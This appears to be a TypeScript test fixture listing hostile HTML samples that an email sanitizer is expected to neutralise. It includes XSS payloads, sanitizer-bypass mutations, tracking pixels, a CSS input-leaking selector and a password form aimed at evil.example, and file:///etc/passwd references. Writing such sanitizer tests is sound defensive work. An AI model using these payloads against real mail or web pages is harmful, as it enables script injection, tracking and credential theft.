/**
 * HTML that mail has carried, or could carry, to do something to whoever opens it. `name` says what it tries. Meant to be
 * run through the sanitizer and looked at by a judge, and to be opened in a browser as it comes out: nothing may run,
 * nothing may be fetched, nobody may be led anywhere without a click. Scripts in them call `alert`, addresses lead to
 * `evil.example`.
 */
export type HostileHtml = { name: string; html: string }

const run = 'alert(1)'
const away = 'https://evil.example'

const scripts: HostileHtml[] = [
  { name: 'a script', html: `<p>a</p><script>${run}</script>` },
  { name: 'a script in capitals with blanks', html: `<SCRIPT\n >${run}</SCRIPT\t>` },
  { name: 'a script from elsewhere', html: `<script src="${away}/a.js" async></script>` },
  { name: 'a script that is not closed', html: `<p>a</p><script>${run}//` },
  { name: 'a script inside a script', html: `<scr<script>ipt>${run}</scr</script>ipt>` },
  { name: 'a script after a false end of comment', html: `<!-- --!><script>${run}</script> -->` },
  { name: 'a script in a conditional comment', html: `<!--[if gte mso 9]><script>${run}</script><![endif]-->` },
  { name: 'a module script', html: `<script type="module">import "${away}/m.js"</script>` },
  { name: 'a script after a NUL', html: `<scr\0ipt>${run}</scr\0ipt>` },
  { name: 'a script with a slash in its name', html: `<script/x>${run}</script/x>` },
]

const handlers: HostileHtml[] = [
  { name: 'an error handler', html: `<img src=x onerror=${run}>` },
  { name: 'an error handler behind slashes', html: `<img/src="x"/onerror=${run}//>` },
  { name: 'a handler in mixed case', html: `<img src=x OnErRoR="${run}">` },
  { name: 'a handler behind a form feed', html: `<img src=x\fonerror=${run}>` },
  { name: 'a handler behind a quote out of place', html: `<img """><p onmouseover="${run}">"><b>a</b>` },
  { name: 'a handler on the body', html: `<body onload=${run} background="${away}/b.png">a</body>` },
  { name: 'a handler that needs no click', html: `<details open ontoggle=${run}><summary>a</summary></details>` },
  { name: 'a handler on focus', html: `<div tabindex=0 autofocus onfocus=${run}>a</div>` },
  { name: 'a handler of an animation', html: `<p style="animation:x 1s" onanimationstart=${run}>a</p>` },
  { name: 'a handler on a marquee', html: `<marquee onstart=${run}>a</marquee>` },
  { name: 'a handler on an unknown tag', html: `<xss onpointerenter=${run} style="display:block">a</xss>` },
  { name: 'a handler in an attribute of a link', html: `<a href="${away}" onclick="${run}">a</a>` },
  { name: 'a handler with backticks', html: '<img src=`x` onerror=`alert(1)`>' },
]

const addresses: HostileHtml[] = [
  { name: 'a javascript address', html: `<a href="javascript:${run}">a</a>` },
  { name: 'a javascript address with a tab', html: `<a href="java\tscript:${run}">a</a>` },
  { name: 'a javascript address with line breaks', html: `<a href="java\n\rscript:${run}">a</a>` },
  { name: 'a javascript address in entities', html: `<a href="&#106;&#x61;vascript&colon;${run}">a</a>` },
  { name: 'a javascript address with a NUL', html: `<a href="java\0script:${run}">a</a>` },
  { name: 'a javascript address behind a control character', html: `<a href="\u0001javascript:${run}">a</a>` },
  { name: 'a javascript address in capitals', html: `<a href="  JaVaScRiPt:${run}">a</a>` },
  { name: 'a vbscript address', html: `<a href="vbscript:msgbox(1)">a</a>` },
  { name: 'a page in a data address', html: `<a href="data:text/html,<script>${run}</script>">a</a>` },
  { name: 'a page in base64', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>' },
  { name: 'a blob address', html: `<a href="blob:${away}/1">a</a>` },
  { name: 'an address without a scheme', html: `<a href="//evil.example/">a</a><a href="/\\evil.example">b</a>` },
  { name: 'a ping behind a link', html: `<a href="${away}" ping="${away}/ping">a</a>` },
  { name: 'an opener to come back by', html: `<a href="${away}" target="_top" rel="opener">a</a>` },
  { name: 'a javascript address in a picture', html: `<img src="javascript:${run}">` },
  { name: 'a picture of SVG in a data address', html: `<img src="data:image/svg+xml,<svg onload=${run}>">` },
]

const foreign: HostileHtml[] = [
  { name: 'SVG that runs when loaded', html: `<svg onload=${run}></svg>` },
  { name: 'SVG without an end', html: `<p>before</p><svg/onload=${run}>after` },
  { name: 'a script in SVG', html: `<svg><script>${run}</script></svg>` },
  {
    name: 'an animated address',
    html: `<svg><a><animate attributeName=href values="javascript:${run}"/><text>a</text></a></svg>`,
  },
  { name: 'SVG that uses another', html: `<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>` },
  {
    name: 'HTML inside SVG',
    html: `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  },
  {
    name: 'MathML with an address',
    html: `<math><maction actiontype="statusline#" href="javascript:${run}">a</maction></math>`,
  },
]

/** Which one parser reads as harmless and the next one, reading the result, does not. */
const mutations: HostileHtml[] = [
  {
    name: 'a style in MathML in a table',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  },
  { name: 'a title in SVG', html: `<svg></p><style><g title="</style><img src onerror=${run}>">` },
  {
    name: 'forms inside one another',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  },
  {
    name: 'a noscript with an attribute that closes it',
    html: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  },
  {
    name: 'a textarea with an attribute that closes it',
    html: `<textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>`,
  },
  { name: 'a textarea closed with a slash', html: `<textarea></textarea/><img src=x onerror=${run}>` },
  { name: 'an xmp', html: `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>` },
  { name: 'a noembed', html: `<noembed><p title="</noembed><img src=x onerror=${run}>"></noembed>` },
  { name: 'an iframe as text', html: `<iframe><p title="</iframe><img src=x onerror=${run}>"></iframe>` },
  { name: 'a template', html: `<template><img src=x onerror=${run}></template>` },
  { name: 'a comment that ends at once', html: `<!--><img src=x onerror=${run}>-->` },
  {
    name: 'a CDATA section',
    html: `<![CDATA[<img src=x onerror=${run}>]]><svg><![CDATA[<img src=x onerror=${run}>]]></svg>`,
  },
  { name: 'a processing instruction', html: `<?xml ><img src=x onerror=${run}>?>` },
  {
    name: 'a select that swallows tags',
    html: `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${run}>">`,
  },
  { name: 'plain text to the end', html: `<plaintext><img src=x onerror=${run}>` },
  { name: 'an end tag with attributes', html: `<p></p title="<img src=x onerror=${run}>">` },
  {
    name: 'entities written twice',
    html: `&lt;script&gt;${run}&lt;/script&gt;&amp;lt;img src=x onerror=${run}&amp;gt;`,
  },
  { name: 'an attribute name that opens a tag', html: `<p <img src=x onerror=${run}>>a</p>` },
]

const styles: HostileHtml[] = [
  { name: 'an imported style sheet', html: `<style>@import "${away}/a.css";</style>` },
  {
    name: 'a linked style sheet',
    html: `<link rel=stylesheet href="${away}/a.css"><link rel=prefetch href="${away}/p">`,
  },
  { name: 'a background in a style', html: `<div style="background:url(${away}/b.png)">a</div>` },
  { name: 'an escaped background', html: `<div style="back\\67round:u\\72l(${away}/b.png)">a</div>` },
  { name: 'a cover over the page', html: `<a href="${away}" style="position:fixed;inset:0;z-index:9999">a</a>` },
  { name: 'an expression', html: `<p style="width:expression(${run})">a</p>` },
  {
    name: 'a style that reads what is typed',
    html: `<style>input[value^=a]{background:url(${away}/a)}</style><input value=a>`,
  },
  {
    name: 'a size beyond the page',
    html: `<img src="${away}/a.png" width=99999 height=99999><table width="100000000"><tr><td>a</table>`,
  },
]

const fetches: HostileHtml[] = [
  { name: 'a picture that counts', html: `<img src="${away}/pixel.gif?u=1" width=1 height=1>` },
  { name: 'a picture without a scheme', html: `<img src="//evil.example/a.png">` },
  { name: 'a set of pictures', html: `<img srcset="${away}/1.png 1x, ${away}/2.png 2x" src="">` },
  { name: 'a picture element', html: `<picture><source srcset="${away}/a.webp"><img src="${away}/a.png"></picture>` },
  {
    name: 'backgrounds of tables',
    html: `<table background="${away}/t.png"><tr background="${away}/r.png"><td background="${away}/c.png">a</table>`,
  },
  {
    name: 'a film with a poster',
    html: `<video poster="${away}/p.png" src="${away}/v.mp4" autoplay></video><audio src="${away}/a.mp3" autoplay></audio>`,
  },
  {
    name: 'a picture as a button',
    html: `<input type=image src="${away}/a.png"><object data="${away}/o"></object><embed src="${away}/e">`,
  },
  {
    name: 'old names for a picture',
    html: `<img lowsrc="${away}/l.png" dynsrc="${away}/d.avi"><image src="${away}/i.png">`,
  },
  { name: 'a frame', html: `<iframe src="${away}/f"></iframe><frameset><frame src="${away}/g"></frameset>` },
  {
    name: 'a frame with its page in an attribute',
    html: `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  },
  { name: 'a picture of another mail', html: `<img src="cid:of-another-mail"><img src="cid:../../etc/passwd">` },
  {
    name: 'a picture by FTP and from a file',
    html: `<img src="ftp://evil.example/a.png"><img src="file:///etc/passwd">`,
  },
  {
    name: 'a hidden address of a blocked picture',
    html: `<img data-blocked-src="javascript:${run}"><img data-blocked-src="http://127.0.0.1/">`,
  },
]

const pages: HostileHtml[] = [
  { name: 'a base for every address', html: `<base href="${away}/"><a href="x">a</a>` },
  { name: 'a page that leaves by itself', html: `<meta http-equiv="refresh" content="0;url=${away}">` },
  {
    name: 'a policy of its own',
    html: `<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name=referrer content=unsafe-url>`,
  },
  {
    name: 'a form that asks for a password',
    html: `<form action="${away}"><input name=password type=password><button formaction="${away}">a</button></form>`,
  },
  {
    name: 'names that hide variables',
    html: `<a id=config name=config href="${away}">a</a><img name=getElementById><div id=body></div>`,
  },
  { name: 'classes of the page around', html: `<div class="modal open" id=app role=dialog slot=x part=y is=z>a</div>` },
  {
    name: 'a portal and a fenced frame',
    html: `<portal src="${away}"></portal><fencedframe src="${away}"></fencedframe>`,
  },
  {
    name: 'text that can be edited and tracked',
    html: `<div contenteditable draggable=true popover nonce=x accesskey=a>a</div>`,
  },
  {
    name: 'a dialog',
    html: `<dialog open>a</dialog><button popovertarget=x commandfor=x command=show-modal>b</button>`,
  },
  { name: 'an end of the frame it stands in', html: `</body></html></iframe><script>${run}</script>` },
  { name: 'a speculation', html: `<script type=speculationrules>{"prefetch":[{"urls":["${away}"]}]}</script>` },
]

export const hostileHtml: readonly HostileHtml[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...foreign,
  ...mutations,
  ...styles,
  ...fetches,
  ...pages,
]
